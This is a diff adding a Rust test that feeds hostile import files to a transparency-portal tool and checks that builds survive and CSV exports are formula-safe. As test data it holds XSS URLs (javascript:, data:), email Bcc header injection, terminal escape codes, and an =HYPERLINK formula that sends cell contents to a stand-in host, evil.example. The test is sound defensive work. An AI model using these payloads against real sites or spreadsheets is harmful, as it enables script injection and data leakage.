@@ -714,3 +714,130 @@ fn portal_yaml_can_publish_exports_in_the_site() {
     let d = p.build_fails();
     assert!(location(only(&d, "invalid-value")).starts_with("content/portal.yaml:"));
 }
+
+/// Values no build would take, in every source format: after the import the
+/// portal still builds, each bad value is a gap with a note, and no link is
+/// glued to a host or leads anywhere unsafe.
+#[test]
+fn a_hostile_import_always_builds() {
+    let nasty_urls = [
+        "javascript:alert(1)",
+        "//evil.example/x",
+        "data:text/html,<script>alert(1)</script>",
+        "https://user:pass@evil.example/",
+    ];
+    let nasty_email = "a@b.example?bcc=c@d.example";
+    let nasty_lang = "not a language";
+    let control = "Name with \u{1b}[31m escape \u{7} bell \u{0} nul \u{b} tab";
+
+    // NL listing CSV: every column with something the build refuses.
+    let p = empty_portal();
+    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
+    let mut csv =
+        String::from("name,organization,description_short,status,url,lang,contact_email\n");
+    for (i, url) in nasty_urls.iter().enumerate() {
+        csv.push_str(&format!(
+            "{},{},{},{},{},{},{}\n",
+            q(&format!("{control} {i}")),
+            q("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
+            q(control),
+            q("in gebruik"),
+            q(url),
+            q(nasty_lang),
+            q(&format!("{nasty_email}\nBcc: x@y.example")),
+        ));
+    }
+    // One record with a good address, so there is something to build.
+    csv.push_str(&format!(
+        "{},{},{},{},{},{},{}\n",
+        q(control),
+        q("Gemeente"),
+        q(control),
+        q("in gebruik"),
+        q("https://register.example/ok"),
+        q(nasty_lang),
+        q(nasty_email)
+    ));
+    let file = p.path().join("hostile.csv");
+    fs::write(&file, &csv).unwrap();
+    let said = import("nl", &file, &p);
+    assert!(
+        said.contains("not imported") || said.contains("gap"),
+        "{said}"
+    );
+    p.build_ok();
+    let portal = model(p.path());
+    assert_eq!(
+        portal.systems.len(),
+        1,
+        "only the record with a real address"
+    );
+    let s = &portal.systems[0];
+    assert!(
+        !s.name.chars().any(|c| c.is_control() && c != '\n'),
+        "{:?}",
+        s.name
+    );
+    assert_eq!(s.lang, None);
+
+    // NL listing JSON and ATRS search JSON with the same values.
+    let p = empty_portal();
+    let nl_json = serde_json::json!({"algoritmes": [
+        {"title": control, "organisatie": "Gemeente", "doel": control,
+         "status": "in_gebruik", "url": "https://register.example/a", "juridische_basis": control},
+        {"title": "Two", "organisatie": "Gemeente", "doel": "x",
+         "status": "in_gebruik", "url": "javascript:alert(1)"}
+    ]});
+    let file = p.path().join("hostile.json");
+    fs::write(&file, nl_json.to_string()).unwrap();
+    import("nl", &file, &p);
+    p.build_ok();
+    assert_eq!(model(p.path()).systems.len(), 1);
+
+    let p = empty_portal();
+    let atrs_json = serde_json::json!({"results": [
+        {"title": format!("Council: {control}"), "description": control,
+         "link": "javascript:alert(1)"},
+        {"title": "Council: Glued", "description": "x", "link": "https.evil.example"},
+        {"title": "Council: Fine", "description": "A tool.", "link": "/algorithmic-transparency-records/fine"}
+    ]});
+    let file = p.path().join("hostile-atrs.json");
+    fs::write(&file, atrs_json.to_string()).unwrap();
+    import("atrs", &file, &p);
+    p.build_ok();
+    let portal = model(p.path());
+    let sources: Vec<String> = portal
+        .systems
+        .iter()
+        .map(|s| s.imported.as_ref().unwrap().source_url.clone())
+        .collect();
+    assert_eq!(
+        sources,
+        vec!["https://www.gov.uk/algorithmic-transparency-records/fine".to_string()],
+        "only a path is joined to GOV.UK"
+    );
+    // The export of what was imported opens safely in a spreadsheet.
+    let out = p.path().join("out");
+    let status = glassbox(&[
+        "export",
+        "atrs",
+        p.path().to_str().unwrap(),
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert!(
+        status.status.success(),
+        "{}",
+        String::from_utf8_lossy(&status.stderr)
+    );
+    let exported = fs::read_to_string(out.join("atrs.csv")).unwrap();
+    let mut reader = csv::Reader::from_reader(exported.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run as a formula"
+            );
+        }
+    }
+}
